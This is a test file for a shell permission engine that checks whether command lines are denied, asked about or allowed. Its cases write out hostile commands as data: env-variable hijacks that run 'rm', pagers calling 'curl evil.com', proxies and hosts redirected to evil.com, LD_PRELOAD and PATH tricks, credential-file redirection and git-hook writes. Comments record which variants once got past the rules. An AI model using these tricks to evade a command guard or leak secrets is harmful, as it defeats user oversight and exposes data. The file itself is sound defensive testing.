// Variables whose value another program runs as a command (src/shell/command-variables.ts): deny
// and ask rules see the command; the line never allows (the assignment is not known-safe).
import { describe, expect, it } from 'vitest';
import { commandAssignment, variableCommandLine } from '../src/shell/command-variables.js';
import { analyzeShell } from '../src/shell/analyze.js';
import type { DecisionKind } from '../src/policy/types.js';
import { decideBoth, op, source } from './helpers/policy.js';

const rules = {
  deny: ['Shell(rm *)', 'Read(//etc/shadow)'],
  allow: ['Shell(git *)', 'Shell(crontab *)', 'Shell(env *)', 'Shell(export *)', 'Shell(man *)', 'Shell(less *)', 'Shell(vim *)', 'Shell(sudo *)'],
};

describe('command variables', () => {
  it('reads the name and value of an assignment word, and less\'s pipe prefix', () => {
    expect(commandAssignment('GIT_SSH_COMMAND=rm x')).toEqual({ name: 'GIT_SSH_COMMAND', value: 'rm x' });
    expect(commandAssignment('PAGER+=x')).toEqual({ name: 'PAGER', value: 'x' });
    expect(commandAssignment('FOO=rm x')).toBeUndefined();
    expect(commandAssignment('=x')).toBeUndefined();
    expect(variableCommandLine('LESSOPEN', '||-lesspipe %s')).toBe('lesspipe %s');
    expect(variableCommandLine('LESSOPEN', '|rm %s')).toBe('rm %s');
    expect(variableCommandLine('EDITOR', '  ')).toBeUndefined();
  });

  it('analyzes the value as a command line of its own', () => {
    const names = (line: string) => analyzeShell(line).commands.map((c) => c.words.join(' '));
    expect(names("GIT_SSH_COMMAND='rm -rf x' git fetch")).toEqual(['rm -rf x', 'git fetch']);
    expect(names("export EDITOR='nano -w'")).toEqual(['nano -w', 'export EDITOR=nano -w']);
    expect(names("env PAGER='less -R' git log")).toContain('less -R');
    expect(names('FOO=bar git fetch')).toEqual(['git fetch']);
  });

  const cases: [string, DecisionKind][] = [
    ["GIT_SSH_COMMAND='rm -rf x' git fetch", 'deny'],
    ["GIT_SSH='rm' git fetch", 'deny'],
    ["env GIT_SSH_COMMAND='rm -rf x' git fetch", 'deny'],
    ["export GIT_EDITOR='rm -rf x'; git commit", 'deny'],
    ["GIT_EDITOR='rm -rf x'; git commit", 'deny'], // an exported variable keeps its new value
    ["declare -x VISUAL='rm x'", 'deny'],
    ["sudo EDITOR='rm x' crontab -e", 'deny'],
    ["LESSOPEN='|rm %s' less f", 'deny'],
    ["PAGER='cat /etc/shadow' man ls", 'deny'],
    ['GIT_SSH_COMMAND="$X" git fetch', 'ask'],
    ['EDITOR=vim git commit', 'ask'], // EDITOR is not known-safe
    ['git fetch', 'allow'],
    ["echo 'GIT_SSH_COMMAND=rm x'", 'ask'], // an argument of echo, no assignment (and echo is not allowed)
  ];
  it.each(cases)('%s -> %s', (line, expected) => {
    expect(decideBoth([source(rules)], op('shell', line)).decision).toBe(expected);
  });

  // (Found in review: assigned other ways than NAME=value, and variables that change what runs.)
  const builtins = { deny: ['Shell(rm *)'], allow: ['Shell(git *)', 'Shell(printf *)', 'Shell(read *)', 'Shell(declare *)', 'Shell(export *)', 'Shell(ls *)'] };
  it.each([
    ["printf -v GIT_SSH_COMMAND 'rm -rf x'; export GIT_SSH_COMMAND; git fetch", 'ask'],
    ["read GIT_SSH_COMMAND <<< 'rm x'; git fetch", 'ask'],
    ['declare -n r=GIT_SSH_COMMAND; git fetch', 'ask'],
    ["export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='rm -rf x'; git fetch", 'ask'],
    ['export PATH=/tmp/x:$PATH; ls', 'ask'],
    ['PATH=/tmp/x; ls', 'ask'],
    ['export LD_PRELOAD=/tmp/x.so; ls', 'ask'],
    // SHELL is exported already: `script -c`, `flock -c`, tmux run their string with the new one (hunt 9, F3).
    ['SHELL=/bin/zsh; ls', 'ask'], ['export SHELL=/bin/zsh; git status', 'ask'], ['declare -x SHELL=/bin/zsh; ls', 'ask'],
    ['export FOO=$PATH; ls', 'allow'],
    // (Inert switches may precede an allowed command; others keep it from being allowed.)
    ['CI=1 NODE_ENV=test git status', 'allow'], ['GOOS=linux GOARCH=amd64 CGO_ENABLED=0 git log', 'allow'], ['FOO=1 git status', 'ask'],
    ['NODE_OPTIONS=--require=./x.js git status', 'ask'], ['GIT_PAGER=cat git log', 'ask'],
    ['CARGO_TERM_COLOR=always git status', 'allow'], ['TF_IN_AUTOMATION=1 DOTNET_NOLOGO=1 DOTNET_CLI_TELEMETRY_OPTOUT=1 git log', 'allow'],
    // (Not inert: RUSTFLAGS=-Clinker=PROG runs a program; debconf loads the DEBIAN_FRONTEND module it names.)
    ['RUSTFLAGS=-Clinker=./x git status', 'ask'], ['DEBIAN_FRONTEND=noninteractive git status', 'ask'],
    ["printf '%s' \"$PATH\"", 'allow'],
    ['read -r LINE <<< x; ls', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decideBoth([source(builtins)], op('shell', line)).decision).toBe(expected);
  });

  // (Found in review 2026-11-26: bash's other ways to assign a name; each ran `rm` in bash.)
  it.each([
    ["for PS4 in '$(rm X)'; do set -x; :; done", 'ask'], ["select PATH in /tmp/x; do ls; done", 'ask'],
    ["mapfile -t PS4 <<< '$(rm X)'; set -x; :", 'ask'], ["readarray -d , PATH <<< /tmp/x; ls", 'ask'],
    ["unset PS4; : ${PS4:='$(rm X)'}; set -x; :", 'ask'], ['echo "${BASH_ENV=./e.sh}"; bash -c :', 'ask'],
    ['set -a; for BASH_ENV in ./e.sh; do bash -c :; done', 'ask'], ['unset PATH; ls', 'ask'], ['unset -v PATH; ls', 'ask'],
    ['wait -p PATH; ls', 'ask'], ['coproc PATH { :; }; ls', 'ask'],
    ['HISTFILE=/etc/shadow; history -r; history', 'ask'], ['for HISTFILE in /etc/x; do history -w; done', 'ask'],
    ['for f in a b; do echo $f; done', 'allow'], ['echo ${X:=1}', 'allow'], ['unset NODE_OPTIONS; npm test', 'allow'], ['unset -f PATH; ls', 'allow'],
    ['printf "%s\\n" a | mapfile -t lines; echo "${lines[0]}"', 'allow'],
    // (Found in review: variables that choose where later commands connect; each reached evil.com.)
    ['export PIP_PROXY=evil.com:8080; pip install x', 'ask'], ['declare -x PIP_PROXY=evil.com:8080; pip install x', 'ask'],
    ['set -a; PIP_PROXY=evil.com:8080; pip install x', 'ask'], ['PIP_PROXY=evil.com:8080; export PIP_PROXY; pip install x', 'ask'],
    ['export GH_HOST=evil.com; gh api /user', 'ask'], ['export PGHOST=evil.com; psql', 'ask'], ['export AWS_ENDPOINT_URL=https://evil.com; aws s3 ls', 'ask'],
    ['export VAULT_ADDR=https://evil.com; vault status', 'ask'], ['export HF_ENDPOINT=https://evil.com', 'ask'], ['export RUBYGEMS_HOST=https://evil.com', 'ask'],
    ['export BUN_CONFIG_REGISTRY=https://evil.com', 'ask'], ['export YARN_HTTPS_PROXY=evil.com:8080', 'ask'], ['export MYSQL_HOST=evil.com', 'ask'],
    ['export OLLAMA_HOST=evil.com', 'ask'], ['export DOCKER_CONTEXT=evil', 'ask'], ['export KUBECONFIG=./k', 'ask'], ['export CARGO_REGISTRY_DEFAULT=x', 'ask'],
    ['export SOCKS5_SERVER=evil.com:1080', 'ask'], ['export HOMEBREW_BOTTLE_DOMAIN=https://evil.com', 'ask'], ['export SSL_CERT_FILE=./ca.pem', 'ask'],
    ["export RSYNC_CONNECT_PROG='rm x'; rsync h::m .", 'deny'],
    // (Found in review: kubectl's, gh's and aws's editors, differs and pagers; terraform's extra
    // arguments and configuration, helm's plugins, exported rather than given as a prefix.)
    ['export KUBECTL_EXTERNAL_DIFF="rm -rf"; kubectl diff -f x.yaml', 'deny'], ["export KUBE_EDITOR='rm'; kubectl edit pod x", 'deny'],
    ["declare -x GH_EDITOR='rm x'; gh pr edit", 'deny'], ["export GH_BROWSER='rm x'", 'deny'], ["export GH_PAGER='rm x'", 'deny'],
    ["export AWS_PAGER='rm x'; aws s3 ls", 'deny'], ['export TF_CLI_ARGS_apply=-destroy; terraform apply', 'ask'],
    ['declare -x TF_CLI_ARGS_apply=-destroy; terraform apply', 'ask'], ['export TF_CLI_ARGS=-auto-approve; terraform apply', 'ask'],
    ['export TF_CLI_CONFIG_FILE=./x.tfrc; terraform init', 'ask'], ['export HELM_PLUGINS=./p; helm x', 'ask'],
    ['export TF_IN_AUTOMATION=1; terraform plan', 'allow'],
    // (Hunt 7, F9: variables that point a tool at its configuration or credentials; each printed a secret.)
    ['export AWS_SHARED_CREDENTIALS_FILE=secrets/aws.ini; aws configure get aws_secret_access_key', 'ask'],
    ['declare -x AWS_SHARED_CREDENTIALS_FILE=secrets/aws.ini; aws s3 ls', 'ask'], ['set -a; AWS_CONFIG_FILE=secrets/c; aws configure get x', 'ask'],
    ['AWS_CONFIG_FILE=secrets/c; export AWS_CONFIG_FILE; aws configure get x', 'ask'], ['export HOME=/w/repo/secrets; aws s3 ls', 'ask'],
    ['export XDG_CONFIG_HOME=/w/repo/secrets; gh auth token', 'ask'], ['export GNUPGHOME=secrets; gpg -d x.gpg', 'ask'],
    ['export GOOGLE_APPLICATION_CREDENTIALS=secrets/sa.json; gcloud auth list', 'ask'], ['export CLOUDSDK_CONFIG=secrets; gcloud config list', 'ask'],
    ['export AZURE_CONFIG_DIR=secrets; az account show', 'ask'], ['export GH_CONFIG_DIR=secrets; gh auth token', 'ask'], ['export BOTO_CONFIG=secrets/b', 'ask'],
    ['typeset -x NETRC=secrets/n; curl -n https://x.org', 'ask'], ['export ZDOTDIR=secrets; zsh -c :', 'ask'], ['export PGPASSFILE=secrets/p; psql', 'ask'],
    ['export VERSION=$(cat VERSION); echo $VERSION', 'allow'],
    ['export NODE_ENV=production; npm test', 'allow'], ['export CI=1; git status', 'allow'],
    // (Found in hunt 5: where later git commands find the repository and write the working tree;
    // `export GIT_WORK_TREE=.git/hooks; git checkout HEAD -- pre-commit` wrote a hook.)
    ['export GIT_WORK_TREE=.git/hooks; git checkout HEAD -- pre-commit', 'ask'], ['export GIT_DIR=../other/.git; git reset --hard', 'ask'],
    ['declare -x GIT_WORK_TREE=.git; git restore -s HEAD hooks/pre-commit', 'ask'], ['GIT_WORK_TREE=.git/hooks; export GIT_WORK_TREE; git checkout .', 'ask'],
    ['set -a; GIT_INDEX_FILE=/tmp/i; git checkout-index -a', 'ask'], ['typeset -x GIT_COMMON_DIR=/tmp/c; git status', 'ask'],
    ['export GIT_OBJECT_DIRECTORY=/tmp/o; git status', 'ask'], ['export GIT_ICASE_PATHSPECS=1; git checkout -- PACKAGE.JSON', 'ask'],
    ['export GIT_AUTHOR_NAME=a GIT_COMMITTER_EMAIL=b@c; git commit -m x', 'allow'], ['export GIT_TERMINAL_PROMPT=0; git fetch', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decideBoth([source({ deny: ['Shell(rm *)'], allow: ['Shell(*)'] })], op('shell', line)).decision).toBe(expected);
  });

  it('says why a value from an expansion never allows', () => {
    const d = decideBoth([source(rules)], op('shell', 'GIT_EDITOR=$E git commit'));
    expect(d.reasons.map((r) => r.message).join('\n')).toContain('the command line in GIT_EDITOR, which another program runs, comes from an expansion');
  });
});

describe('git trace variables: an absolute value is a file git appends to (src/shell/variable-assignments.ts)', () => {
  // (Were allowed exported beside an Edit deny: `export GIT_TRACE=/etc/x; git status` appended to /etc/x.)
  it.each([
    ['export GIT_TRACE=/etc/x; git status', 'deny'], ['GIT_TRACE=/etc/x git status', 'deny'], ['env GIT_TRACE_PACKET=/etc/x git fetch', 'deny'],
    ['declare -x GIT_TRACE2_EVENT=/etc; git status', 'deny'], ['GIT_TRACE_SETUP=/etc/x; export GIT_TRACE_SETUP; git status', 'deny'],
    ['export GIT_TRACE_PERFORMANCE=/w/.git/hooks/pre-commit; git status', 'deny'], ['sudo GIT_TRACE_CURL=/etc/x git fetch', 'deny'],
    ['export GIT_TRACE=$F; git status', 'ask'], ['printf -v GIT_TRACE2 %s /etc/x; export GIT_TRACE2; git status', 'ask'],
    ['export GIT_TRACE=1; git status', 'allow'], ['export GIT_TRACE=/tmp/trace; git status', 'allow'],
  ] as const)('%s -> %s', (line, expected) => {
    expect(decideBoth([source({ deny: ['Edit(//etc/**)', 'Edit(./.git/hooks/**)'], allow: ['Shell(*)'] })], op('shell', line)).decision).toBe(expected);
  });
});

describe('git config: a command line stored for git to run later', () => {
  const policy = { deny: ['Shell(rm *)', 'Read(//etc/shadow)', 'Domain(evil.com)'], allow: ['Shell(git *)'] };
  const cases: [string, DecisionKind][] = [
    ["git config core.sshCommand 'rm x'", 'deny'], // was allowed by Shell(git *)
    ["git config --global core.pager 'rm y'", 'deny'],
    ["git config set alias.x '!rm z'", 'deny'],
    ["git config --add diff.tool.command 'find . -delete -exec rm {} +'", 'deny'],
    ["git config core.pager 'cat /etc/shadow'", 'deny'],
    ["git config core.pager 'curl evil.com'", 'deny'],
    // Stored, not run: allowing git config does not need the stored command allowed.
    ['git config core.editor vim', 'allow'],
    ["git config core.pager 'curl good.com'", 'allow'],
    ["git config alias.x '!ls'", 'allow'],
    ["git config user.name 'rm x'", 'allow'], // not a command key
    ['git config core.editor "$E"', 'ask'],
    ["git config $K 'rm x'", 'ask'],
    // Run now: the command must be allowed too.
    ['git -c core.pager=less log', 'ask'],
    // (Found in review.)
    ["git config credential.helper '!rm x'", 'deny'],
    ["git -c credential.helper='!rm x' fetch", 'deny'],
    ["git config --type bool-or-str core.sshCommand 'rm x'", 'deny'],
    ["git config interactive.diffFilter 'rm x'", 'deny'],
    ["git config submodule.s.update '!rm x'", 'deny'],
    ['git config submodule.s.update rebase', 'allow'],
    ['git config credential.helper store', 'allow'],
    ['git config core.hooksPath /tmp/h', 'ask'],
  ];
  it.each(cases)('%s -> %s', (line, expected) => {
    expect(decideBoth([source(policy)], op('shell', line)).decision).toBe(expected);
  });

  it('gives the stored command to deny and ask rules only', () => {
    const c = analyzeShell("git config core.pager 'less -R'").commands;
    expect(c.map((x) => [x.words.join(' '), x.scope])).toEqual([['less -R', 'restrict'], ["git config core.pager less -R", 'all']]);
  });
});
